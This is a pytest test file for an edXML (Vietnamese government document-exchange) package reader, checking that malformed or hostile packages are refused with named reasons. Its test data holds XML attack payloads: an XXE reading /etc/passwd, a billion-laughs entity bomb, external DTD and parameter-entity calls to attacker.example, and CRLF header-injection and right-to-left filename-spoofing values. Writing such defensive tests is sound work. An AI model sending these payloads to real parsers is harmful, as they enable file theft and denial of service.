"""Hostile or broken packages are refused with a reason naming the problem."""

from __future__ import annotations

import io
import re

import pytest
from vanthu_exchange.domain.edxml import (
    Business,
    BusinessDocType,
    InvalidPackage,
    MalformedAttachment,
    MalformedField,
    MalformedXml,
    MissingField,
    NotAnEdxmlPackage,
    PackageRejected,
    PackageTooLarge,
    ReadLimits,
    StatusCode,
    UnknownAgency,
    UnknownStatusCode,
    UnsafeXml,
    read_package,
    write_document_package,
    write_status_package,
)

EDXML = "http://www.mic.gov.vn/TBT/QCVN_102_2016"


@pytest.fixture
def document_text(make_document, make_attachment) -> str:
    sink = io.BytesIO()
    write_document_package(sink, make_document(), [make_attachment("cid:1", b"%PDF-1.7 noi dung")])
    return sink.getvalue().decode()


@pytest.fixture
def status_text(make_status) -> str:
    sink = io.BytesIO()
    write_status_package(sink, make_status(StatusCode.ACCEPTED))
    return sink.getvalue().decode()


def refusal(text: str | bytes, **options) -> PackageRejected:
    data = text.encode() if isinstance(text, str) else text
    with pytest.raises(PackageRejected) as caught:
        read_package(io.BytesIO(data), **options)
    return caught.value


def without(text: str, pattern: str) -> str:
    changed = re.sub(pattern, "", text, count=1, flags=re.S)
    assert changed != text, f"{pattern} not found"
    return changed


def replaced(text: str, old: str, new: str) -> str:
    assert old in text, f"{old} not found"
    return text.replace(old, new, 1)


# -- XML attacks ---------------------------------------------------------------------------

ENTITY_ATTACKS = {
    "external entity (XXE)": (
        '<?xml version="1.0"?>\n<!DOCTYPE edXML [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
        f'<edXML xmlns="{EDXML}"><x>&xxe;</x></edXML>'
    ),
    "billion laughs": (
        '<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol">'
        + "".join(
            f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10 if i > 1 else "&lol;" * 10}">'
            for i in range(1, 10)
        )
        + f']>\n<edXML xmlns="{EDXML}">&lol9;</edXML>'
    ),
    "external DTD": (
        '<?xml version="1.0"?>\n<!DOCTYPE edXML SYSTEM "http://attacker.example/evil.dtd">\n'
        f'<edXML xmlns="{EDXML}"/>'
    ),
    "parameter entity": (
        '<?xml version="1.0"?>\n<!DOCTYPE edXML [<!ENTITY % remote SYSTEM '
        '"http://attacker.example/x.dtd"> %remote;]>\n'
        f'<edXML xmlns="{EDXML}"/>'
    ),
}


@pytest.mark.parametrize("attack", ENTITY_ATTACKS, ids=str)
def test_doctype_based_attacks_are_refused_as_unsafe(attack):
    rejection = refusal(ENTITY_ATTACKS[attack])

    assert isinstance(rejection, UnsafeXml)
    assert rejection.code == "unsafe_xml"
    assert "DOCTYPE" in rejection.reason


def test_an_attack_hidden_after_a_valid_header_is_still_refused(document_text):
    # A DOCTYPE is only legal before the root; anywhere else expat refuses it as malformed.
    attacked = replaced(document_text, "<edXML:Subject>", "<!DOCTYPE x><edXML:Subject>")

    assert isinstance(refusal(attacked), MalformedXml)


def test_undeclared_entity_references_are_refused(document_text):
    rejection = refusal(replaced(document_text, "<edXML:Subject>", "<edXML:Subject>&xxe;"))

    assert isinstance(rejection, MalformedXml)
    assert "undefined entity" in rejection.reason


def test_text_that_is_not_xml_is_refused_as_malformed():
    rejection = refusal(b"%PDF-1.7 this is not a package")

    assert rejection.code == "malformed_xml"


def test_another_xml_format_is_refused_as_not_edxml():
    rejection = refusal('<edXML xmlns="http://www.e-doc.vn/Schema/"><x/></edXML>')

    assert isinstance(rejection, NotAnEdxmlPackage)
    assert "http://www.e-doc.vn/Schema/" in rejection.reason


# -- size --------------------------------------------------------------------------------


class EndlessAttachment(io.RawIOBase):
    """A package whose attachment never ends: only a limit checked while streaming stops it."""

    def __init__(self, head: bytes) -> None:
        self._head = head

    def readable(self) -> bool:
        return True

    def readinto(self, buffer) -> int:
        chunk = self._head or b"QUJD" * (len(buffer) // 4)
        self._head = b""
        size = min(len(chunk), len(buffer))
        buffer[:size] = chunk[:size]
        return size


def test_an_oversized_package_is_refused_while_streaming_and_its_sinks_must_be_discarded(
    document_text, sinks
):
    head = document_text[: document_text.index("<edXML:ContentTransferEncoded")]
    head += f'<edXML:ContentTransferEncoded xmlns:edXML="{EDXML}">'
    source = io.BufferedReader(EndlessAttachment(head.encode()))

    with pytest.raises(PackageTooLarge) as caught:
        read_package(source, sinks.open, limits=ReadLimits(max_package_bytes=5_000_000))

    assert caught.value.code == "package_too_large"
    assert "5000000 bytes" in caught.value.reason
    assert caught.value.discard_content_ids == ("cid:1",)
    assert 0 < len(sinks.content("cid:1")) <= 5_000_000


def test_bulk_text_outside_attachments_is_refused(document_text):
    bloated = replaced(document_text, "<edXML:Content>", "<edXML:Content>" + "x" * 300_000)

    rejection = refusal(bloated, limits=ReadLimits(max_envelope_bytes=100_000))

    assert isinstance(rejection, PackageTooLarge)
    assert "outside attachments" in rejection.reason


def test_absurdly_deep_nesting_is_refused(document_text):
    nested = replaced(
        document_text, "<edXML:Content>", "<edXML:Content>" + "<a>" * 100 + "</a>" * 100
    )

    assert isinstance(refusal(nested), MalformedXml)


# -- fields ------------------------------------------------------------------------------

MISSING = {
    "MessageHeader/From/OrganId": r"<edXML:OrganId>000\.00\.00\.G22</edXML:OrganId>",
    "MessageHeader/To": r"<edXML:To>.*</edXML:To>",
    "MessageHeader/DocumentId": r"<edXML:DocumentId>[^<]*</edXML:DocumentId>",
    "MessageHeader/Code/CodeNumber": r"<edXML:CodeNumber>[^<]*</edXML:CodeNumber>",
    "MessageHeader/PromulgationInfo/PromulgationDate": r"<edXML:PromulgationDate>2025/02/28</edXML:PromulgationDate>",
    "MessageHeader/Subject": r"<edXML:Subject>[^<]*</edXML:Subject>",
    "TraceHeaderList/TraceHeader[1]/Timestamp": r"<edXML:Timestamp>[^<]*</edXML:Timestamp>",
    "edXMLBody/edXMLManifest/Reference[1]/AttachmentName": r"<edXML:AttachmentName>[^<]*</edXML:AttachmentName>",
    "AttachmentEncoded/Attachment[1]/ContentTransferEncoded": r"<edXML:ContentTransferEncoded.*</edXML:ContentTransferEncoded>",
}  # fmt: skip


@pytest.mark.parametrize("field", MISSING, ids=str)
def test_a_missing_required_field_is_named(field, document_text):
    rejection = refusal(without(document_text, MISSING[field]))

    assert isinstance(rejection, MissingField)
    assert rejection.reason == f"{field} is missing"
    assert rejection.code == "missing_field"


def test_an_empty_required_field_counts_as_missing(document_text):
    emptied = re.sub(
        r"<edXML:Subject>[^<]*</edXML:Subject>", "<edXML:Subject>  </edXML:Subject>", document_text
    )

    assert refusal(emptied).reason == "MessageHeader/Subject is missing"


@pytest.mark.parametrize(
    ("old", "new", "field"),
    [
        ("<edXML:PromulgationDate>2025/02/28<", "<edXML:PromulgationDate>2025-02-28<", "MessageHeader/PromulgationInfo/PromulgationDate"),
        ("<edXML:PromulgationDate>2025/02/28<", "<edXML:PromulgationDate>2025/02/30<", "MessageHeader/PromulgationInfo/PromulgationDate"),
        ("<edXML:DueDate>2025/03/31<", "<edXML:DueDate>03/31/2025<", "MessageHeader/DueDate"),
            ("<edXML:DueDate>2025/03/31<", "<edXML:DueDate>31/03/25<", "MessageHeader/DueDate"),
        ("<edXML:Timestamp>2025/03/03 09:15:30<", "<edXML:Timestamp>2025-03-03T09:15:30<", "TraceHeaderList/TraceHeader[1]/Timestamp"),
    ],
    ids=["iso-dashes", "30-february", "month-first", "two-digit-year", "iso-timestamp"],
)  # fmt: skip
def test_malformed_dates_are_refused_naming_the_field(old, new, field, document_text):
    rejection = refusal(replaced(document_text, old, new))

    assert isinstance(rejection, MalformedField)
    assert rejection.field == field
    assert "yyyy/MM/dd" in rejection.reason


@pytest.mark.parametrize("code", ["07", "5", "99", "done"])
def test_unknown_status_codes_are_refused(code, status_text):
    rejection = refusal(
        replaced(status_text, "<edXML:StatusCode>03<", f"<edXML:StatusCode>{code}<")
    )

    assert isinstance(rejection, UnknownStatusCode)
    assert rejection.code == "unknown_status_code"
    assert rejection.field == "MessageHeader/StatusCode"


def test_a_rejection_status_without_a_reason_is_refused(status_text):
    text = replaced(status_text, "<edXML:StatusCode>03<", "<edXML:StatusCode>02<")
    text = without(text, r"<edXML:Description>[^<]*</edXML:Description>")

    rejection = refusal(text)

    assert isinstance(rejection, InvalidPackage)
    assert "reason" in rejection.reason


@pytest.mark.parametrize(
    ("unknown", "field"),
    [
        ("000.00.00.H41", "MessageHeader/To[1]/OrganId"),
        ("000.00.00.G22", "MessageHeader/From/OrganId"),
    ],
)
def test_agencies_missing_from_the_directory_are_refused(unknown, field, document_text):
    directory = {"000.00.00.G22", "000.00.00.H41", "000.00.00.H14"} - {unknown}

    rejection = refusal(document_text, known_agency=directory.__contains__)

    assert isinstance(rejection, UnknownAgency)
    assert rejection.code == "unknown_agency"
    assert rejection.reason == f"{field} {unknown!r} is not a known agency"


def test_a_status_about_a_document_from_an_unknown_agency_is_refused(status_text):
    rejection = refusal(status_text, known_agency={"000.00.00.H41"}.__contains__)

    assert isinstance(rejection, UnknownAgency)
    assert rejection.field == "MessageHeader/ResponseFor/OrganId"


def test_agency_codes_outside_the_identifier_alphabet_are_refused(document_text):
    rejection = refusal(replaced(document_text, "000.00.00.H41", "000.00.00.h41; DROP"))

    assert isinstance(rejection, MalformedField)
    assert rejection.field == "MessageHeader/To[1]/OrganId"


def test_an_urgency_outside_zero_to_four_is_refused(document_text):
    rejection = refusal(replaced(document_text, "<edXML:Priority>1<", "<edXML:Priority>7<"))

    assert isinstance(rejection, MalformedField)
    assert rejection.field == "MessageHeader/OtherInfo/Priority"


def test_a_replace_that_names_no_document_is_refused(make_document):
    # A revoke or an update names its target in MessageHeader/DocumentId (ADR 0050); a replace
    # without Bussiness/DocumentId and without ReplacementInfo names nothing.
    sink = io.BytesIO()
    replace = Business(
        doc_type=BusinessDocType.REPLACE, document_code="000.00.00.G22,2025/01/02,1/VPCP"
    )
    write_document_package(sink, make_document(business=replace))
    text = without(
        sink.getvalue().decode(),
        r"(?<=<edXML:Bussiness>)\s*<edXML:DocumentId>[^<]*</edXML:DocumentId>",
    )

    rejection = refusal(text)

    assert isinstance(rejection, InvalidPackage)
    assert "DocumentId" in rejection.reason


# -- attachments -------------------------------------------------------------------------


def test_attachment_content_that_is_not_base64_is_refused(document_text, sinks):
    text = re.sub(r"(<edXML:ContentTransferEncoded[^>]*>)", r"\1!!", document_text)

    rejection = refusal(text, open_sink=sinks.open)

    assert isinstance(rejection, MalformedAttachment)
    assert rejection.discard_content_ids == ("cid:1",)


def test_truncated_base64_is_refused(document_text):
    text = re.sub(
        r"..</edXML:ContentTransferEncoded>", "</edXML:ContentTransferEncoded>", document_text
    )

    rejection = refusal(text)

    assert isinstance(rejection, MalformedAttachment)
    assert "middle of a base64 group" in rejection.reason


def test_an_attachment_missing_from_the_manifest_is_refused(document_text):
    text = document_text.replace(
        "<ContentId>cid:1</ContentId>", "<ContentId>cid:smuggled</ContentId>"
    )

    rejection = refusal(text)

    assert isinstance(rejection, MalformedAttachment)
    assert "cid:smuggled is not in edXMLManifest" in rejection.reason


def test_an_attachment_renamed_outside_the_envelope_is_refused(document_text):
    text = replaced(document_text, "<AttachmentName>van-ban.pdf<", "<AttachmentName>invoice.exe<")

    rejection = refusal(text)

    assert isinstance(rejection, MalformedAttachment)
    assert "differs from the manifest" in rejection.reason


# -- header-like fields ----------------------------------------------------------------------

HEADER_LIKE = {
    "ContentType": ("application/pdf", "application/pdf&#13;&#10;X-Injected: 1"),
    "AttachmentName": ("van-ban.pdf", "van-ban&#10;.pdf"),
    "ContentId": ("cid:1", "cid:&#13;&#10;1"),
    "CodeNotation": (">VPCP-KSTT<", ">VPCP-KSTT&#9;X<"),
    "DocumentId": (
        "000.00.00.G22,2025/02/28,1234/VPCP-KSTT<",
        "000.00.00.G22,2025/02/28,1234/VPCP&#10;-KSTT<",
    ),
    "OrganName": ("OrganName>Văn phòng Chính phủ<", "OrganName>Văn phòng&#133;Chính phủ<"),
    "FullName": ("Nguyễn Văn A", "Nguyễn Văn A&#x202E;fdp.exe"),
    "Place": ("Lưu: VT, KSTT", "Lưu: VT&#x2028;KSTT"),
}


@pytest.mark.parametrize("field", HEADER_LIKE)
def test_a_line_break_or_control_character_in_a_header_like_field_is_refused_naming_it(
    field, document_text
):
    old, new = HEADER_LIKE[field]
    assert old in document_text, f"{old} not found"

    rejection = refusal(document_text.replace(old, new))

    assert isinstance(rejection, MalformedField)
    assert rejection.field.endswith(field)
    assert "one line without control characters" in rejection.reason


def test_a_content_type_that_is_not_a_media_type_is_refused(document_text):
    rejection = refusal(document_text.replace("application/pdf", "pdf please"))

    assert isinstance(rejection, MalformedField)
    assert rejection.field.endswith("ContentType")


def test_a_subject_on_several_lines_is_still_read(document_text):
    text = document_text.replace("V/v kết nối, liên thông", "V/v kết nối,&#10;liên thông")

    read = read_package(io.BytesIO(text.encode()))

    assert "\n" in read.package.message_header.subject
